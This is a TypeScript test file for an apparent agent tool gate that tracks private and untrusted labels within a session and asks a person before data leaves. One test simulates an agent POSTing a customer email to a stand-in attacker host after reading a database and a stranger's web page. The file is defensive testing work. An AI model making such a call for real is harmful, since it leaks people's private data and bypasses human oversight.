import { strict as assert } from 'node:assert';
import { explainCall, explanationText } from '../../../../src/core/explain/explain';
import { worded } from '../../../../src/core/base/sentence';
import { flowGate } from '../../../support/flow';

describe('labels of a session', () => {
  let gate: ReturnType<typeof flowGate>;
  const open = (options: Parameters<typeof flowGate>[0]) => (gate = flowGate(options));
  afterEach(() => gate.close());

  it('D.flow: what was private and what a stranger wrote ask together before data goes out, and the question tells it', async () => {
    open({ preset: 'balanced' });
    await gate.run('db_query', { sql: 'select * from customers' });
    assert.equal(gate.asked.length, 0);
    await gate.run('web_fetch', { url: 'https://stranger.example/page' });
    await gate.run('http_request', { method: 'POST', url: 'https://evil.example/collect', body: 'ada@example.com' });
    const [question] = gate.asked;
    const flow = question?.reasons.find(({ rule }) => rule === 'preset.flow');
    assert.ok(flow);
    const told = worded(flow.said);
    for (const part of ['database', 'stranger.example/page', 'evil.example/collect', 'ada@example.com'])
      assert.ok(told.includes(part), `${part} in ${told}`);
  });

  it('D.flow: either alone asks nothing, and a link of the page that was read is followed without a question', async () => {
    open({ preset: 'balanced', pages: { 'https://docs.example/': 'see https://docs.example/guide' } });
    await gate.run('web_fetch', { url: 'https://docs.example/' });
    await gate.run('http_request', { method: 'POST', url: 'https://api.example/x', body: 'hello' });
    await gate.run('db_query', { sql: 'select 1' });
    await gate.run('web_fetch', { url: 'https://docs.example/guide' });
    assert.deepEqual(gate.asked, []);
    await gate.run('web_fetch', { url: 'https://docs.example/guide?q=secret' });
    assert.equal(gate.asked.length, 1);
  });

  it('D.flow: a person takes a label away with a reason; files that the session wrote lose it too', async () => {
    const cleared: string[] = [];
    open({ preset: 'balanced', onCleared: (...told) => cleared.push(told.join(' ')) });
    await gate.run('db_query', { sql: 'select * from customers' });
    await gate.run('web_fetch', { url: 'https://stranger.example/page' });
    await gate.run('write_file', { path: 'report.md', content: 'a sum' });
    const send = (): Promise<unknown> =>
      gate.run('http_request', { method: 'POST', url: 'https://api.example/x', body: `${gate.asked.length}` });
    await send();
    assert.equal(gate.asked.length, 1);
    assert.throws(() => gate.tracker.clear('chat', 'private', '  '), /say why/);
    assert.equal(gate.tracker.sessions()[0]?.private.length, 1);
    gate.tracker.clear('chat', 'private', 'these customers are made up');
    assert.deepEqual(cleared, ['chat private these customers are made up']);
    await gate.run('read_file', { path: 'report.md' });
    await send();
    assert.equal(gate.asked.length, 1, 'nothing of the session is private any more');
    assert.equal(gate.tracker.sessions()[0]?.untrusted.length, 2, 'the other label stays');
    await gate.run('db_query', { sql: 'select * from customers' });
    await send();
    assert.equal(gate.asked.length, 2, 'what is read later is private again');
  });

  it('D.flow: why a call would ask tells which reads set the labels of the session that called last', async () => {
    open({ preset: 'balanced' });
    await gate.run('db_query', { sql: 'select * from customers' });
    await gate.run('web_fetch', { url: 'https://stranger.example/page' });
    const input = { method: 'POST', url: 'https://api.example/x', body: 'hello' };
    const actor = { type: 'agent', id: 'governance' } as const;
    const preview = await gate.router.preview({
      tool: 'http_request',
      input,
      actor,
      surface: 'tool',
      ofLastSession: true,
    });
    assert.equal(preview.effect, 'ask');
    const explained = explainCall('http_request', preview, [], undefined);
    assert.deepEqual(explained.labels, [
      { label: 'private', readBy: ['the database "default", read by `db_query`'] },
      { label: 'untrusted', readBy: ['the page "https://stranger.example/page", read by `web_fetch`'] },
    ]);
    const text = explanationText(explained);
    assert.match(text, /## Labels of the session that called last/);
    assert.match(text, /\*\*private\*\*\n.*database/);
    const unknown = await gate.router.preview({ tool: 'http_request', input, actor, surface: 'tool' });
    assert.equal(unknown.effect, 'pass', 'a preview of nobody has no labels');
  });
});
